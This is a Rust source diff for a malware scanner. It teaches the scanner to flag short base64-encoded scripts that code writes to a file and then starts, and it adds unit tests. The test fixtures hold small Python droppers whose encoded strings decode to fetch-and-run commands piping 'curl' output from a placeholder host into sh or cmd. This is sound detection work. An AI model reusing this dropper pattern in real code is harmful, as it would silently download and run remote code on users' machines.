@@ -9,12 +9,17 @@
 //! reviewer saw. A blob that is written and never run (a bundled font, a wheel unpacked into a cache) is
 //! not reported.
 //!
+//! A shorter literal counts when what it decodes to reads as a script (a `.vbs` that starts `pythonw`, a
+//! batch file, a shell line): a few hundred bytes of code written out and started are the same dropper,
+//! only smaller. Its decoding is the one the decode-and-rescan pass already made of the segment.
+//!
 //! Payloads of a megabyte and more are the point of the technique (a setup.py of 3 MB hides a 40-line
 //! loader around one literal), so the detector does not skip large files: it reads a *skeleton* of the
 //! segment in which every encoded run longer than [`LONG_RUN`] keeps only a window at each end
 //! ([`KEEP_HEAD`], [`KEEP_TAIL`]); offsets in the skeleton map back to the file. The skeleton is bounded by
 //! [`MAX_SKELETON_BYTES`] and built in one pass, so the cost is linear in the segment.
 
+use super::deobfuscate::{payloads, reads_as_code, Payload};
 use super::write_run::runs_as_program;
 use super::write_run::{calls, helper_runs, run_helpers, runs_program, writes, Call};
 use super::FileDetector;
@@ -221,9 +226,7 @@ fn report_carried_payloads(segment: &Segment, text: &str, keep: &mut dyn FnMut(H
         let Some((from, to)) = write.content else {
             continue;
         };
-        let Some((literal_at, payload)) = carried_literal(sk, from, &sk[from..to]) else {
-            continue;
-        };
+        let carried = carried_literal(sk, from, &sk[from..to]);
         let runs_directly = |c: &&Call| {
             runs_program(&c.name) && write.keys.iter().any(|k| runs_as_program(&c.args, k, true))
         };
@@ -234,6 +237,19 @@ fn report_carried_payloads(segment: &Segment, text: &str, keep: &mut dyn FnMut(H
             .filter(|c| c.start > write.at)
             .find(|c| runs_directly(c) || runs_by_helper(c))
         else {
+            continue;
+        };
+        let Some((literal_at, payload)) = carried else {
+            let content = (
+                segment.start + skeleton.original(from),
+                segment.start + skeleton.original(to),
+            );
+            if let Some(script) = decoded_script(segment, text, content) {
+                let hit = short_script_hit(segment, &skeleton, script, write.at, run);
+                if !keep(hit) {
+                    return;
+                }
+            }
             continue;
         };
         let hit = Hit {
@@ -261,6 +277,68 @@ fn report_carried_payloads(segment: &Segment, text: &str, keep: &mut dyn FnMut(H
         if !keep(hit) {
             return;
         }
+    }
+}
+
+/// A payload the segment decodes whose text reads as a script, written in the written expression (file
+/// offsets `content`) or assigned to a name used there (`out.write(b64decode(BOOT))`).
+fn decoded_script<'s>(
+    segment: &'s Segment,
+    text: &str,
+    content: (usize, usize),
+) -> Option<&'s Payload> {
+    let expression = text.get(content.0..content.1)?;
+    let names: Vec<&str> = expression
+        .split(|c: char| !(c.is_alphanumeric() || c == '_'))
+        .filter(|w| w.len() >= 2 && w.chars().next().is_some_and(|c| !c.is_ascii_digit()))
+        .take(MAX_NAMES)
+        .collect();
+    let assigned_to_a_name = |at: usize| {
+        let line_start = text[..at].rfind('\n').map_or(0, |i| i + 1);
+        let Some((left, _)) = text[line_start..at].split_once('=') else {
+            return false;
+        };
+        names.contains(&left.trim())
+    };
+    payloads(segment, text).iter().find(|p| {
+        let inside = content.0 <= p.start && p.end <= content.1;
+        (inside || (text.is_char_boundary(p.start) && assigned_to_a_name(p.start)))
+            && reads_as_code(&p.decoded)
+    })
+}
+
+/// The finding for a short encoded script written to a file that `run` starts.
+fn short_script_hit(
+    segment: &Segment,
+    skeleton: &Skeleton,
+    script: &Payload,
+    written_at: usize,
+    run: &Call,
+) -> Hit {
+    let quoted: String = script
+        .decoded
+        .split_whitespace()
+        .collect::<Vec<_>>()
+        .join(" ")
+        .chars()
+        .take(80)
+        .collect();
+    Hit {
+        start: segment.start + skeleton.original(run.start),
+        end: segment.start + skeleton.original(run.end),
+        detail: Some(Box::new(HitDetail {
+            message: format!(
+                "a script carried in the code as {} (\"{quoted}\") is written to a file that `{}` then starts",
+                script.encoding, run.name
+            ),
+            related: vec![
+                (script.start, "the carried script".to_string()),
+                (
+                    segment.start + skeleton.original(written_at),
+                    "written to a file here".to_string(),
+                ),
+            ],
+        })),
     }
 }
 
@@ -376,5 +454,32 @@ mod tests {
             blob("UEsDBBQAAAAIAA", 2048)
         );
         assert!(fired(&argument, "tools/pack.py").is_empty());
+    }
+
+    #[test]
+    fn a_short_encoded_script_written_and_started_fires() {
+        let text = "import os\nfrom base64 import b64decode\nfrom subprocess import Popen\nd = os.path.join(os.environ['TEMP'], 'cache')\nwith open(os.path.join(d, 'boot.vbs'), 'w') as f:\n    f.write(b64decode('U2V0IHNoID0gQ3JlYXRlT2JqZWN0KCJXU2NyaXB0LlNoZWxsIikKc2guRXhlYyAiY21kIC9jIGN1cmwgLWZzU0wgaHR0cHM6Ly9oLmV4YW1wbGUuaW52YWxpZC9hIHwgY21kIgo=').decode())\nos.chdir(d)\nPopen('boot.vbs', shell=True)\n";
+        let found = fired(text, "setup.py");
+        assert_eq!(found.len(), 1, "{found:?}");
+        assert!(
+            found[0].contains("a script carried in the code"),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_short_encoded_script_held_in_a_name_is_followed_to_the_write() {
+        let text = "import os, subprocess, base64\nBOOT = 'Y3VybCAtZnNTTCBodHRwczovL2guZXhhbXBsZS5pbnZhbGlkL2EgfCBzaAo='\npath = '/tmp/boot.sh'\nwith open(path, 'w') as f:\n    f.write(base64.b64decode(BOOT).decode())\nsubprocess.Popen(['sh', path])\n";
+        assert_eq!(fired(text, "pkg/__init__.py").len(), 1);
+    }
+
+    #[test]
+    fn a_short_encoded_text_written_and_opened_or_a_script_never_started_is_quiet() {
+        // Prose decoded into a file that is then shown: no code.
+        let notes = "import os\nfrom base64 import b64decode\nwith open('welcome.txt', 'w') as f:\n    f.write(b64decode('VGhhbmtzIGZvciBpbnN0YWxsaW5nLiBSZWFkIHRoZSBndWlkZSBpbiBkb2NzLyB0byBnZXQgc3RhcnRlZCB3aXRoIHRoZSB0b29sLg==').decode())\nos.startfile('welcome.txt')\n";
+        assert!(fired(notes, "setup.py").is_empty());
+        // The script is written and left for the user.
+        let kept = "from base64 import b64decode\nwith open('boot.vbs', 'w') as f:\n    f.write(b64decode('U2V0IHNoID0gQ3JlYXRlT2JqZWN0KCJXU2NyaXB0LlNoZWxsIikKc2guRXhlYyAiY21kIC9jIGN1cmwgLWZzU0wgaHR0cHM6Ly9oLmV4YW1wbGUuaW52YWxpZC9hIHwgY21kIgo=').decode())\nprint('saved boot.vbs')\n";
+        assert!(fired(kept, "setup.py").is_empty());
     }
 }
